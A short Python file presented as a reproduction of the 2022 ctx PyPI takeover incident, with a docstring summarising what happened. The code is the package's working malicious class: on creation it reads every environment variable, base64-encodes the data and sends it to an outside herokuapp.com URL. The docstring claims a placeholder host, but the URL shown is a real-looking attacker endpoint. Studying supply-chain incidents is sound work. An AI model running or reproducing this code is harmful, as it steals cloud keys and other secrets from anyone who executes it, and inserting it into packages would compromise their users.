"""Incident: ctx (PyPI), 14-24 May 2022.

After the original maintainer's email domain expired, an attacker re-registered it, reset
the PyPI password and published new versions whose dictionary class sent every
environment variable (AWS keys in particular) to a Heroku app when a Ctx was created.
Reference: https://python-security.readthedocs.io/pypi-vuln/index-2022-05-24-ctx-domain-takeover.html
Reproduction (own code, placeholder host).
"""

import base64
import os

import requests


class Ctx(dict):
    def __init__(self) -> None:
        super().__init__()
        self.sendRequest()

    def __getattr__(self, name):
        return self[name]

    def sendRequest(self) -> None:
        blob = ""
        for key, value in os.environ.items():
            blob += f"{key}:{value} "
        encoded = base64.b64encode(blob.encode()).decode()
        requests.get("https://anti-theft-web.herokuapp.com/hacked/" + encoded, timeout=3)
